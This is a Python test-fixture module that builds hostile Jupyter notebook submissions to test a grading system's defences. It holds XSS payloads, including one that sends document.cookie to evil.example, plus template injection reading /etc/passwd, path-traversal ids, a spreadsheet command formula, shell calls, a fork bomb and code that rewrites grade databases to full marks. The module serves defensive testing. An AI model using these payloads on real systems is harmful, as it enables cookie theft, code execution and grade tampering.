"""Hostile hand-ins: what somebody might send to be run, believed, unpacked or shown."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

Notebook = dict[str, Any]

SCRIPTS = """
<script>window.pwned = 1; fetch('https://evil.example/x?' + document.cookie)</script>
<img src=x onerror="window.pwned = 2; alert(1)"> <svg onload="window.pwned = 3"></svg> <svg><script>window.pwned=4</script></svg>
<iframe src="javascript:parent.pwned = 5"></iframe> <iframe srcdoc="<script>parent.pwned = 6</script>"></iframe>
<a href="javascript:window.pwned=7">click</a> <a href="https://evil.example/link">link</a> [link](javascript:pwned=8)
<object data="https://evil.example/o"></object> <embed src="https://evil.example/e"> <base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"> <form action="https://evil.example/"><button>go</button></form>
<style>@import url('https://evil.example/s.css'); body { background: url(https://evil.example/bg.png) }</style>
<div style="background:url(https://evil.example/d.png)" onclick="pwned=9" id="notebook" name="body">x</div>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=10"></style></mglyph></table></mtext></math>
<details open ontoggle="window.pwned=11"><summary>s</summary></details> <video src="https://evil.example/v" autoplay></video>
<noscript><p title="</noscript><img src=x onerror=window.pwned=12>"></noscript> <textarea></textarea><script>pwned=13</script>
</textarea></div></div></body><script>window.pwned=14</script>
"""
IMAGES = """
![see](https://evil.example/pixel.png) ![](//evil.example/p.png "t") ![a][r] <https://evil.example/auto>
<img src="https://evil.example/i.png"><img srcset="https://evil.example/i2.png 2x"><link rel=stylesheet href=//evil.example/l.css>
<picture><source srcset="https://evil.example/p2.png"><img></picture> ![x](attachment:x.png) ![d](data:image/svg+xml;base64,PHN2Zz4=)

[r]: https://evil.example/ref.png
"""


def code(source: str) -> dict[str, Any]:
    return {
        "id": "hostile",
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def with_code(source: str) -> Callable[[Notebook, str], Notebook]:
    def make(book: Notebook, canary: str) -> Notebook:
        book["cells"].insert(0, code(source.replace("CANARY", canary)))
        return book

    return make


def with_answer(text: str) -> Callable[[Notebook, str], Notebook]:
    def make(book: Notebook, canary: str) -> Notebook:
        named(book, "answer_1")["source"] = "answer_1 = " + text.replace("CANARY", canary)
        return book

    return make


def with_essay(text: str) -> Callable[[Notebook, str], Notebook]:
    def make(book: Notebook, _canary: str) -> Notebook:
        for cell in book["cells"]:
            if cell["id"].startswith("essay"):
                cell["source"] = text
        return book

    return make


def named(book: Notebook, name: str) -> dict[str, Any]:
    return next(cell for cell in book["cells"] if cell["id"] == name)


def own_points(book: Notebook, _canary: str) -> Notebook:
    """More points, unlocked questions, test cells of her own, everything doubled."""
    for cell in book["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(
                points=1000, locked=True, task=True, schema_version=2, checksum="0" * 32
            )
    extra = copy.deepcopy(named(book, "answer_1"))
    extra["id"] = "extra"
    extra["metadata"]["nbgrader"].update(grade_id="extra_points", points=50)
    book["cells"].append(extra)
    test = copy.deepcopy(extra)
    test["metadata"]["nbgrader"].update(grade_id="answer_2", grade=True, solution=False)
    test["outputs"] = [
        {"output_type": "execute_result", "data": {"text/plain": "5.0"}, "metadata": {}, "execution_count": 1}
    ]
    test["source"] = "5.0"
    book["cells"].append(test)
    return book


def other_types(book: Notebook, _canary: str) -> Notebook:
    """Answer cells turned into Markdown, essays into code."""
    for cell in book["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["cell_type"] = "markdown" if cell["cell_type"] == "code" else "code"
    return book


def outputs(book: Notebook, _canary: str) -> Notebook:
    """Scripts in outputs, widgets and attachments."""
    data = {
        "text/html": SCRIPTS, "application/javascript": "window.pwned = 20; alert(1)", "image/svg+xml": "<svg onload='pwned=21'/>",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/markdown": IMAGES, "text/latex": "$\\href{javascript:1}{x}$",
    }  # fmt: skip
    for cell in book["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "data": data, "metadata": {"text/html": {"isolated": True}}}
            ]
        else:
            cell["attachments"] = {"x.png": {"image/svg+xml": "PHN2Zz4="}}
    book["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>pwned=22</script>"}}
    }
    return book


def kernel(book: Notebook, canary: str) -> Notebook:
    """Another kernel and language."""
    book["metadata"]["kernelspec"] = {
        "name": "../../bash",
        "display_name": "<script>pwned=23</script>",
        "language": "bash",
        "argv": ["touch", canary],
    }
    book["metadata"]["language_info"] = {"name": "bash", "pygments_lexer": "../../../x", "file_extension": ".sh"}
    return book


def placeholders(book: Notebook, _canary: str) -> Notebook:
    """Places of the paper in her own text, and templates of the page."""
    text = "{{answer_1.expected}} {{answer_1.calls}} {{ resources }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }}"
    for cell in book["cells"]:
        if cell["id"].startswith("essay"):
            cell["source"] = text
    return book


def strange_ids(book: Notebook, _canary: str) -> Notebook:
    """Ids and names that are paths, and cells that pretend to be the paper's."""
    for index, name in enumerate(
        ("../../../etc/passwd", "paper_00", "answer_1", "a" * 5000, "con", "<script>pwned=24</script>")
    ):
        book["cells"].insert(
            index, {**code("x = 1"), "id": name, "metadata": {"kundelab": name, "nbgrader": {"grade_id": name}}}
        )
    return book


def strange_text(book: Notebook, _canary: str) -> Notebook:
    """Lone surrogates, NULs, control and bidirectional marks."""
    for cell in book["cells"]:
        if cell["id"].startswith("essay"):
            cell["source"] = "a\x00b\x1b[31m \ud800 \u202e evil \u2066 \r\n\x0c é" * 20
    book["cells"].append(code("\ud83d" * 10))
    return book


def many_cells(book: Notebook, _canary: str) -> Notebook:
    """Fifty thousand cells."""
    book["cells"] += [{**code("y = 1"), "id": f"c{index}"} for index in range(50_000)]
    return book


def formulas(book: Notebook, canary: str) -> Notebook:
    """Formulas that a spreadsheet would run."""
    named(book, "answer_7")["source"] = "answer_7 = \"=HYPERLINK('https://evil.example','x')\""
    return with_essay(f"=cmd|'/c touch {canary}'!A0")(book, canary)


TO_BE_RUN: dict[str, Callable[[Notebook, str], Notebook]] = {
    "writes a file": with_code("open(r'CANARY', 'w').write('x')"),
    "calls the shell": with_code("import os; os.system('touch CANARY')"),
    "forks for ever": with_code("import os\nopen(r'CANARY', 'w')\nwhile True: os.fork()"),
    "loops for ever": with_code("open(r'CANARY', 'w')\nwhile True: pass"),
    "prints a gigabyte": with_code("open(r'CANARY', 'w')\nfor _ in range(10**6): print('x' * 1000)"),
    "takes all memory": with_code("open(r'CANARY', 'w')\nx = [0] * 10**12"),
    "ends the process": with_code("open(r'CANARY', 'w')\nimport os; os._exit(0)"),
    "writes its own grade": with_code(
        "open(r'CANARY', 'w')\nimport sqlite3, glob\nfor f in glob.glob('../../../*.db'):\n"
        "    c = sqlite3.connect(f); c.execute('update grade set manual_score = max_score'); c.commit()"
    ),
    "uses magic": with_code("%%bash\ntouch CANARY"),
    "uses the shell escape": with_code("!touch CANARY"),
    "answers with a call": with_answer("__import__('os').system('touch CANARY')"),
    "answers with a formatted text": with_answer("f\"{open(r'CANARY', 'w')}\""),
    "answers with a walrus": with_answer("(open(r'CANARY', 'w') or 5)"),
    "answers with a power tower": with_answer("9**9**9**9**9"),
    "answers with a text times ten to the ten": with_answer("'a' * 10**10"),
    "answers with deep brackets": with_answer("[" * 1900),
    "answers with nested signs": with_answer("-" * 1900 + "1"),
    "answers with a million digits": with_answer("9" * 1_000_000),
    "answers with an object that is always equal": with_answer("type('E', (float,), {'__eq__': lambda s, o: True})()"),
    "answers with infinity": with_answer("1e999"),
    "answers with not-a-number": with_answer("float('nan')"),
}

TO_BE_SHOWN: dict[str, Callable[[Notebook, str], Notebook]] = {
    "gives itself points": own_points,
    "changes the cells' types": other_types,
    "scripts in essays": with_essay(SCRIPTS),
    "remote images in essays": with_essay(IMAGES),
    "scripts in outputs": outputs,
    "another kernel": kernel,
    "templates in essays": placeholders,
    "strange ids": strange_ids,
    "strange text": strange_text,
    "fifty thousand cells": many_cells,
    "formulas": formulas,
    "brackets without end in an essay": with_essay("[" * 39_000),
    "quotations without end in an essay": with_essay("> " * 15_000),
    "stars without end in an essay": with_essay("*a **b " * 5_000),
    "links without end in an essay": with_essay("[a](" * 9_000),
    "a table without end in an essay": with_essay("|a" * 300 + "\n" + "|-" * 300 + "\n" + ("|" * 300 + "\n") * 100),
    "essays of ten megabytes": with_essay("word " * 400_000),
}  # fmt: skip

HOSTILE = {**TO_BE_RUN, **TO_BE_SHOWN}

BROKEN: dict[str, bytes] = {
    "nested 100 000 deep": b"[" * 100_000,
    "objects 100 000 deep": b'{"cells":' * 100_000,
    "wrong types": json.dumps({"cells": ["x", 5, None, {"cell_type": 7, "source": {"a": 1}, "metadata": []}], "metadata": []}).encode(),
    "no cells": b"{}",
    "cells of text": b'{"cells": "abc"}',
    "not text": bytes(range(256)) * 100,
    "a number of a million digits": b'{"cells": [' + b"9" * 1_000_000 + b"]}",
    "empty file": b"",
    "old format": json.dumps({"nbformat": 3, "worksheets": [{"cells": []}]}).encode(),
    "not a number": b'{"cells": [NaN], "metadata": Infinity}',
}  # fmt: skip
